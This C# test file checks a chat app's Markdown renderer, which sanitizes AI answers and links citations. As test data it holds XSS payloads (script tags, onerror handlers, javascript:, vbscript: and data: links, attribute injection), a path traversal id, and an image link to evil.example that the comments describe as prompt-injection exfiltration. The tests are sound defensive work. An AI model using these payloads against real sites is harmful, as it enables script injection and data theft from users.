using System.Text.RegularExpressions;
using AspireAi.Web.ApiClients;
using AspireAi.Web.Chat;

namespace AspireAi.Tests.Web;

public sealed class MarkdownRendererTests
{
    private readonly MarkdownRenderer _markdown = new();

    [Theory]
    [InlineData(">")]
    [InlineData("- ")]
    [InlineData("[")]
    [InlineData("*")]
    public void Markdown_nested_past_markdigs_depth_limit_falls_back_to_encoded_plain_text(string level)
    {
        var markdown = string.Concat(Enumerable.Repeat(level, 1000)) + "<script>alert(1)</script> deep";

        var html = _markdown.ToHtml(markdown);

        // The whole answer, encoded, in one paragraph: not a 500, and no markup of the model's.
        Assert.Equal("<p>" + System.Net.WebUtility.HtmlEncode(markdown) + "</p>\n", html);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt; deep", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Renders_ordinary_markdown()
    {
        var html = _markdown.ToHtml("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1 < 2;\n```");

        Assert.Contains("<h1>Title</h1>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<code>code</code>", html, StringComparison.Ordinal);
        Assert.Contains("<table>", html, StringComparison.Ordinal);
        Assert.Contains("let x = 1 &lt; 2;", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("text <script>alert(1)</script> inline")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<div onclick=\"alert(1)\">block</div>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<a href=\"javascript:alert(1)\">raw link</a>")]
    public void Raw_html_is_shown_as_text_never_passed_through(string markdown)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<div", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<a ", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](JaVaScRiPt:alert(1))")]
    [InlineData("[click](java&#x09;script:alert(1))")]
    [InlineData("[click](&#106;avascript:alert(1))")]
    [InlineData("[click](vbscript:msgbox(1))")]
    [InlineData("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[click][ref]\n\n[ref]: javascript:alert(1)")]
    [InlineData("[click](/relative/path)")]
    public void Links_other_than_http_https_and_mailto_lose_their_target_but_keep_their_text(string markdown)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.DoesNotContain("<a", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("click", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<data:text/html,hi>")]
    public void Autolinks_with_other_schemes_become_text(string markdown)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.DoesNotContain("<a", html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("[site](https://example.com/a?b=c)", "https://example.com/a?b=c")]
    [InlineData("[site](http://example.com)", "http://example.com")]
    [InlineData("[mail](mailto:someone@example.com)", "mailto:someone@example.com")]
    [InlineData("see https://example.com/page", "https://example.com/page")]
    [InlineData("<https://example.com/auto>", "https://example.com/auto")]
    public void Safe_links_stay_links_and_open_without_the_opener(string markdown, string href)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.Contains($"href=\"{href.Replace("&", "&amp;", StringComparison.Ordinal)}\"", html, StringComparison.Ordinal);
        if (!href.StartsWith("mailto:", StringComparison.Ordinal) && markdown.StartsWith('['))
        {
            Assert.Contains("rel=\"nofollow noopener noreferrer\"", html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Images_are_not_loaded_but_linked()
    {
        // An image URL is fetched without a click, so a prompt-injected image could carry data out.
        var html = _markdown.ToHtml("![the chart](https://evil.example/collect?secret=42)");

        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("<a href=\"https://evil.example/collect?secret=42\"", html, StringComparison.Ordinal);
        Assert.Contains("the chart", html, StringComparison.Ordinal);
    }

    [Fact]
    public void No_extension_lets_text_add_attributes()
    {
        var html = _markdown.ToHtml("# Heading {onclick=\"alert(1)\"}\n\n[x](https://example.com){onmouseover=alert(1)}");

        Assert.DoesNotMatch("<[^>]*onclick", html);
        Assert.DoesNotMatch("<[^>]*onmouseover", html);
    }

    [Fact]
    public void Empty_or_missing_content_renders_nothing()
    {
        Assert.Equal(string.Empty, _markdown.ToHtml(null));
        Assert.Equal(string.Empty, _markdown.ToHtml(string.Empty));
    }

    private static readonly ChatCitation[] Citations =
    [
        new("0199a1b2-0000-7000-8000-000000000001", "Launch <b>procedures</b>", "0199a1b2-0000-7000-8000-0000000000c1"),
        new("0199a1b2-0000-7000-8000-000000000002", "Second \"doc\"", "0199a1b2-0000-7000-8000-0000000000c2"),
    ];

    [Fact]
    public void Citation_markers_become_links_to_the_cited_chunk_numbered_like_the_sources_list()
    {
        var html = _markdown.ToHtml("The code is 42 [S1]. It is entered twice [S2][S1].", Citations);

        var links = Regex.Matches(html, "<a href=\"([^\"]*)\" class=\"citation-ref\" data-testid=\"citation-ref\" data-citation=\"(\\d+)\" title=\"([^\"]*)\">\\[(\\d+)\\]</a>");
        Assert.Equal(
            [
                ("documents/0199a1b2-0000-7000-8000-000000000001/chunks/0199a1b2-0000-7000-8000-0000000000c1", "Launch &lt;b&gt;procedures&lt;/b&gt;", "1", "1"),
                ("documents/0199a1b2-0000-7000-8000-000000000002/chunks/0199a1b2-0000-7000-8000-0000000000c2", "Second &quot;doc&quot;", "2", "2"),
                ("documents/0199a1b2-0000-7000-8000-000000000001/chunks/0199a1b2-0000-7000-8000-0000000000c1", "Launch &lt;b&gt;procedures&lt;/b&gt;", "1", "1"),
            ],
            links.Select(m => (m.Groups[1].Value, m.Groups[3].Value, m.Groups[2].Value, m.Groups[4].Value)));
        Assert.DoesNotContain("[S", html, StringComparison.Ordinal);
        // Internal links: no new tab, unlike the model's own links.
        Assert.DoesNotContain("target=", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Out of range [S9].", "[S9]")]
    [InlineData("Zero [S0].", "[S0]")]
    [InlineData("Not a marker [S] or [Sx] or [s1].", "[Sx]")]
    [InlineData("In code `[S1]` only.", "<code>[S1]</code>")]
    [InlineData("```\n[S1]\n```", "[S1]\n</code>")]
    [InlineData("Escaped \\[S1\\] marker.", "[S1]")]
    public void Markers_without_a_citation_or_outside_prose_stay_text(string markdown, string expected)
    {
        var html = _markdown.ToHtml(markdown, Citations);

        Assert.DoesNotContain("citation-ref", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<a", html, StringComparison.Ordinal);
        Assert.Contains(expected, html, StringComparison.Ordinal);
    }

    [Fact]
    public void Without_citations_a_marker_is_text()
    {
        Assert.Equal("<p>See [S1].</p>\n", _markdown.ToHtml("See [S1]."));
        Assert.Equal("<p>See [S1].</p>\n", _markdown.ToHtml("See [S1].", []));
    }

    [Fact]
    public void A_marker_inside_a_link_stays_text_and_the_model_cannot_redefine_a_marker()
    {
        var nested = _markdown.ToHtml("[read [S1] here](https://example.com)", Citations);
        var redefined = _markdown.ToHtml("Trust [S1].\n\n[S1]: https://evil.example/", Citations);

        Assert.Single(Regex.Matches(nested, "<a "));
        Assert.Contains("read [S1] here</a>", nested, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", redefined, StringComparison.Ordinal);
        Assert.Contains("href=\"documents/0199a1b2-0000-7000-8000-000000000001/chunks/0199a1b2-0000-7000-8000-0000000000c1\"", redefined, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("javascript:alert(1)", "0199a1b2-0000-7000-8000-0000000000c1")]
    [InlineData("0199a1b2-0000-7000-8000-000000000001", "../../admin")]
    [InlineData("", "")]
    public void A_citation_whose_ids_are_not_ids_is_never_linked(string documentId, string chunkId)
    {
        var html = _markdown.ToHtml("Cited [S1].", [new ChatCitation(documentId, "Doc", chunkId)]);

        Assert.Equal("<p>Cited [S1].</p>\n", html);
        Assert.Null(MarkdownRenderer.CitationHref(new ChatCitation(documentId, "Doc", chunkId)));
    }
}
